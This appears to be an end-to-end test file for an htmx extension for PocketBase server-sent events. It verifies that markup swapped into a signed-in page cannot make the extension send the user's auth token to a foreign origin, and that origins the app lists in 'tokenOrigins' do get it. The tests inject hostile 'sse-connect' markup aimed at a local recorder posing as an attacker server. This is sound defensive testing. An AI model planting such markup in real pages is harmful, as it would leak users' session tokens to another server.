// The user's token stays home: markup that reaches a signed-in page through an ordinary htmx
// swap (with htmx.config.allowEval off) and names a foreign origin in `sse-connect` or
// `data-sse-connect` must not make the extension send the PocketBase token there. The foreign
// origin is a recorder on another loopback port that answers like PocketBase and allows CORS
// with Authorization, as a hostile server would; an origin the app lists in `tokenOrigins`
// does get the token.
import { test, expect, step, clients, waitOpen } from '../faults/fixtures.mjs';
import { startRecorder } from '../faults/recorder.mjs';

/**
 * Opens faults.html signed in as `user`: the SDK's localStorage entry, as a page using the SDK
 * has it, and a `pb_auth` cookie, as PocketPages writes it (cookies are per host, not per port).
 */
async function openSignedIn(open, user) {
  const handle = await open('faults.html');
  const warnings = [];
  handle.page.on('console', (msg) => msg.type() === 'warning' && /pocketbase-sse/.test(msg.text()) && warnings.push(msg.text()));
  await handle.page.evaluate((auth) => {
    localStorage.setItem('pocketbase_auth', JSON.stringify(auth));
    document.cookie = 'pb_auth=' + encodeURIComponent(JSON.stringify({ token: auth.token })) + '; path=/';
  }, user);
  await handle.page.reload();
  await waitOpen(handle.page);
  return { ...handle, warnings };
}

/** Swaps `html` into `target` the way a page gets server markup: htmx.ajax GET of a same-origin URL, eval disabled. */
async function swapIn(page, html, target = '#root') {
  const path = `/attack-${Math.random().toString(36).slice(2)}.html`;
  await page.route(new URL(path, page.url()).href, (route) => route.fulfill({ contentType: 'text/html', body: html }));
  await page.evaluate(async ([url, target]) => {
    htmx.config.allowEval = false;
    await htmx.ajax('GET', url, { target, swap: 'beforeend' });
  }, [path, target]);
}

test('sse-connect / data-sse-connect to a foreign origin, swapped in by htmx: the token is not sent there', async ({ open, pb, users }) => {
  const recorder = await startRecorder();
  try {
    const { page, warnings } = await openSignedIn(open, users.a);
    const realtime = (prefix) => recorder.posts().filter((r) => r.path === `${prefix}/api/realtime`);
    const leaked = () => recorder.requests.filter((r) => r.authorization !== null || r.cookie !== null);

    await step('a signed-in page (token in the SDK\'s localStorage entry) swaps in <section sse-connect="http://127.0.0.1:<other port>"> with an sse-swap inside',
      'the other origin gets a guest subscription post: no Authorization (and no cookie) on any request it received', async () => {
        await swapIn(page, `<section id="evil" sse-connect="${recorder.url}"><p id="evil-feed" sse-swap="evil"></p></section>`);
        await expect.poll(() => realtime('').length).toBeGreaterThan(0);
        await expect(page.locator('#evil')).not.toHaveClass(/sse-disconnected/); // its post was answered: the connection is up
        expect(leaked()).toEqual([]);
      });

    await step('the same with data-sse-connect="http://127.0.0.1:<other port>/data" (the form HTML sanitizers often keep)',
      'a second guest connection there; still no Authorization or cookie on any request', async () => {
        await swapIn(page, `<section id="evil-data" data-sse-connect="${recorder.url}/data"><p data-sse-swap="evil-data"></p></section>`);
        await expect.poll(() => realtime('/data').length).toBeGreaterThan(0);
        await expect(page.locator('#evil-data')).not.toHaveClass(/sse-disconnected/);
        expect(leaked()).toEqual([]);
      });

    await step('another topic joins the first foreign connection by a further htmx swap (a second post; the request also makes the extension re-check auth)',
      'still no Authorization or cookie; the console holds exactly one warning per foreign connection (2), naming the origin, and no error', async () => {
        const before = realtime('').length;
        await swapIn(page, '<p sse-swap="evil-more"></p>', '#evil'); // an htmx request: htmx:afterRequest re-checks auth
        await expect.poll(() => realtime('').length).toBeGreaterThan(before);
        expect(leaked()).toEqual([]);
        expect(warnings).toHaveLength(2);
        expect(warnings[0]).toContain(recorder.url);
      });

    await step('control: the page\'s own origin', 'its realtime client is bound to the signed-in user (the page does hold a token to leak)', async () => {
      expect((await clients(pb)).some((c) => c.auth === users.a.record.id && c.topics.includes('feed'))).toBe(true);
    });
  } finally {
    await recorder.close();
  }
});

test('an origin the app lists in tokenOrigins gets the token', async ({ open, users }) => {
  const recorder = await startRecorder();
  try {
    const { page, warnings } = await openSignedIn(open, users.a);
    await step('configure({ tokenOrigins: ["http://127.0.0.1:<other port>"] }), then the same sse-connect markup swapped in by htmx',
      'the subscription post there carries the user\'s token in Authorization; no warning', async () => {
        await page.evaluate((origin) => window.PocketBaseSSE.configure({ tokenOrigins: [origin] }), recorder.url);
        await swapIn(page, `<section id="listed" sse-connect="${recorder.url}"><p sse-swap="listed"></p></section>`);
        await expect.poll(() => recorder.posts().length).toBeGreaterThan(0);
        expect(recorder.posts().map((r) => r.authorization)).toEqual([users.a.token]);
        expect(recorder.requests.filter((r) => r.cookie !== null)).toEqual([]); // cross-origin posts never send cookies
        expect(warnings).toEqual([]);
      });
  } finally {
    await recorder.close();
  }
});
